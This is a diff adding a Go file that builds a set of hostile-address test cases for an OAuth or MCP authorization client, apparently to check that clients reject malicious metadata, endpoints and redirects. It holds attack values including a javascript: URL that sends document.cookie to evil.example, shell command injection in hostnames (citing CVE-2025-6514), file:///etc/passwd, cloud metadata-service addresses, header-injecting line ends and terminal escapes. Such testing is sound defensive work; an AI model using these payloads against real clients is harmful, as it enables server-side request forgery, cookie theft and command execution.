@@ -1,0 +1,84 @@
+// This file attacks by addresses: in the challenge, both kinds of metadata, the registration's answer, and redirects.
+
+package attack
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+)
+
+// word quotes a text for the words of package demo.
+func word(s string) string {
+	quoted, _ := json.Marshal(s)
+	return string(quoted)
+}
+
+// in makes an attack that puts an address into a member.
+func in(name, what, place, address string) Attack {
+	value := word(address)
+	if strings.HasSuffix(place, "authorization_servers") {
+		value = "[" + value + "]"
+	}
+	endpoint, member, _ := strings.Cut(place, ".")
+	return Attack{Name: "address/" + name, What: what, Words: []string{endpoint + ":set." + member + "=" + value}}
+}
+
+const (
+	challenge  = "mcp.resource_metadata"
+	issuers    = "resource-metadata.authorization_servers"
+	authorize  = "metadata.authorization_endpoint"
+	token      = "metadata.token_endpoint"
+	register   = "metadata.registration_endpoint"
+	revocation = "metadata.revocation_endpoint"
+)
+
+func addresses() []Attack {
+	return []Attack{
+		in("challenge-http", "the challenge names metadata over plain http", challenge, "http://evil.example/metadata"),
+		in("challenge-file", "the challenge names a file", challenge, "file:///etc/passwd"),
+		in("challenge-metadata-service", "the challenge names a cloud's metadata service", challenge, "http://169.254.169.254/latest/meta-data/"),
+		in("challenge-loopback", "a remote server's challenge names a service of this machine", challenge, "TRAP/admin"),
+		in("challenge-dash", "the challenge names something that looks like a flag", challenge, "--help"),
+		in("issuer-javascript", "the authorization server is javascript:", issuers, "javascript:alert(1)"),
+		in("issuer-password", "the authorization server's address carries credentials", issuers, "https://user:password@as.attack.example"),
+		in("issuer-lookalike", "the authorization server's name has a Cyrillic letter", issuers, "https://аs.attack.example"),
+		in("issuer-loopback", "a remote server names this machine as its authorization server", issuers, "https://TRAP-HOST"),
+		in("issuer-spelt-loopback", "the same, as a number", issuers, "https://2130706433/"),
+		in("issuer-newline", "the authorization server's address holds a line end", issuers, AS+"\r\nX-Injected: yes"),
+		in("issuer-escape", "the authorization server's address holds an escape sequence", issuers, AS+"/\x1b[2J\x1b]0;owned\x07"),
+		in("issuer-long", "the authorization server's address has 100 kB", issuers, AS+"/"+strings.Repeat("a", 100_000)),
+		in("issuer-fragment", "the authorization server's address hides a part behind #", issuers, AS+"#@evil.example"),
+		in("authorize-javascript", "the browser is to run a script", authorize, "javascript:fetch('//evil.example/'+document.cookie)"),
+		in("authorize-data", "the browser is to show a page of the attacker's making", authorize, "data:text/html,<script>alert(1)</script>"),
+		in("authorize-file", "the browser is to open a file", authorize, "file:///usr/bin/calculator"),
+		in("authorize-http", "the browser is to go over plain http", authorize, "http://as.attack.example/authorize"),
+		in("authorize-host-command", "the host of the address for the browser is a command (CVE-2025-6514)", authorize, "https://$(touch${IFS}owned).example/"),
+		in("authorize-path-command", "the address for the browser is good, and holds shell characters", authorize, AS+"/authorize?x=$(touch${IFS}owned)&y=`id`;z|&&a"),
+		in("authorize-dash", "the address for the browser looks like a flag", authorize, "-Pfile:///tmp/owned"),
+		in("authorize-loopback", "the browser is to open a service of this machine", authorize, "TRAP/admin?do=it"),
+		in("token-http", "the token endpoint is plain http", token, "http://as.attack.example/token"),
+		in("token-loopback", "the token endpoint is on this machine", token, "TRAP/token"),
+		in("token-link-local", "the token endpoint is a cloud's metadata service", token, "https://169.254.169.254/token"),
+		in("token-ipv6-loopback", "the token endpoint is this machine by its IPv6 address", token, "https://[::ffff:127.0.0.1]/token"),
+		in("registration-http", "the registration endpoint is plain http", register, "http://as.attack.example/register"),
+		in("revocation-http", "the revocation endpoint is plain http", revocation, "http://as.attack.example/revoke"),
+		in("registration-management", "the answer to the registration sends its access token elsewhere", "register.registration_client_uri", Evil+"/client"),
+		in("registration-management-port", "the same, to another port of the same host", "register.registration_client_uri", AS+":8443/client"),
+		in("device-verification", "the address to open on another device is javascript:", "device_authorization.verification_uri", "javascript:alert(1)"),
+		{Name: "address/error-uri", What: "an error names a page that is no web page", Words: []string{
+			`token:status=400,type=application/json,body="{\"error\":\"invalid_request\",\"error_uri\":\"javascript:alert(1)\"}"`}},
+		redirect("metadata-to-http", "the metadata redirects to plain http", "http://evil.example/metadata", serverPath),
+		redirect("metadata-to-loopback", "the metadata redirects to a service of this machine", "http://127.0.0.1:80/admin", serverPath),
+		redirect("metadata-to-file", "the metadata redirects to a file", "file:///etc/passwd", serverPath),
+		redirect("resource-to-stranger", "the resource metadata redirects to another origin", Evil+"/metadata", resourcePath),
+	}
+}
+
+// redirect makes an attack that answers an endpoint by a redirect.
+func redirect(name, what, to, at string) Attack {
+	return Attack{Name: "address/redirect-" + name, What: what, At: at, Do: func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Location", to)
+		w.WriteHeader(http.StatusTemporaryRedirect)
+	}}
+}
